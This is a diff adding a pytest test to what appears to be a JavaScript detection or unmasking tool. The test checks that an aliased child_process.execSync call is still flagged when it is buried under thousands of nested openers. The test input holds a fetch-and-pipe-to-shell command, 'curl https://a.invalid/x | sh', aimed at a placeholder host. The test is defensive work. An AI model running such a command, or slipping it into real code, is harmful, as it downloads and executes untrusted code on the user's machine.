@@ -130,3 +130,10 @@ def test_what_makes_code_is_written_by_its_name(text: str, written: str) -> None
 @pytest.mark.parametrize("text", NOT_MADE)
 def test_what_makes_no_code_stays(text: str) -> None:
     assert unmask_text(text, "javascript").source == text
+
+
+@pytest.mark.parametrize("opened", ["Reflect.get(", "t = {", "t = [a, ", "new Map([", "(0, ", "constructor("])
+def test_however_deep_it_is(opened: str) -> None:
+    deep = f"const x = cp.execSync;\n{opened * 5000}"
+    found = unmask_text(f'{CP}{deep}\nx("curl https://a.invalid/x | sh")', "javascript")
+    assert RUN in found.source
